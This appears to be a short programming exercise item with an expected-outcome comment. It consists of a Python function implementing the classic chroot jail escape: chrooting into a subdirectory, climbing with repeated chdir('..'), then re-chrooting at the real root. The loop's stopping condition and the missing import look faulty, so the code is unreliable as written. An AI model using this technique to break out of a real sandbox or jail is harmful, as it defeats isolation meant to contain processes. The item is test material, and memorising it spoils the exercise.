# expect: ended
# Exercise 7.2 · 4 lines
def escape():
    os.chroot("tmp")
    while os.listdir("."):
        os.chdir("..")
    os.chroot(".")
